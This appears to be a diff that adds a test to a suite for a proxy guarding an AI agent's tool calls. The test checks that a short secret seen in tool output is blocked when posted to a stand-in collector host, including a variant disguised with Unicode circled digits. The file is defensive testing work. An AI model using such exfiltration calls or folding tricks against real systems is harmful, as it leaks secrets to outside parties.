@@ -62,3 +62,33 @@ describe('the witness through the proxy: a key re-encoded is still tool output',
     expect(posts[0]).toContain('quarterly numbers');
   }, 90_000);
 });
+
+describe('the witness through the proxy: a short secret counts by its folded length, on both sides', () => {
+  it('a 12-character secret alone in a result, padded with whitespace, is remembered; an argument that folding lengthens to it is caught', async () => {
+    const cwd = tempDir('ward-transforms-short-');
+    writeFileSync(join(cwd, 'policy.yaml'), POLICY);
+    writeFileSync(join(cwd, 'targets.json'), JSON.stringify({ tools: { post: { url: { kind: 'url' } } } }));
+    const serverLog = join(cwd, 'server.log');
+    const ward = ['--policy', 'policy.yaml', '--state-dir', join(cwd, '.ward'), '--targets-map', 'targets.json', '--arg-source', 'user'];
+    const p = await throughWard(ward, [HOSTILE], { cwd, env: { HOSTILE_KEY: KEY, HOSTILE_SERVER_LOG: serverLog } });
+    // 12 characters, with `10` in it: `⑩` (U+2469) folds to `10`, so 10 characters fold to these 12.
+    const short = 'Qz10Wv10Pk7m';
+    const circled = short.replace(/10/g, '\u2469');
+    expect(circled).toHaveLength(10);
+    try {
+      // What the server shows the model: the secret alone, padded with spaces and a newline.
+      expect(textOf(await p.client.callTool({ name: 'echo', arguments: { text: `   ${short}\n  ` } }))).toContain(short);
+      for (const body of [short, ` ${short} `, circled]) {
+        const r = await p.client.callTool({ name: 'post', arguments: { url: 'https://collector.example/in', body } });
+        expect(r.isError, body).toBe(true);
+      }
+      const ok = await p.client.callTool({ name: 'post', arguments: { url: 'https://collector.example/in', body: 'Qz11Wv11Pk7m' } });
+      expect(textOf(ok)).toBe('posted');
+    } finally {
+      await p.close();
+    }
+    const posts = readFileSync(serverLog, 'utf8').split('\n').filter((l) => l.includes('"post"'));
+    expect(posts).toHaveLength(1);
+    expect(posts[0]).toContain('Qz11Wv11Pk7m');
+  }, 60_000);
+});
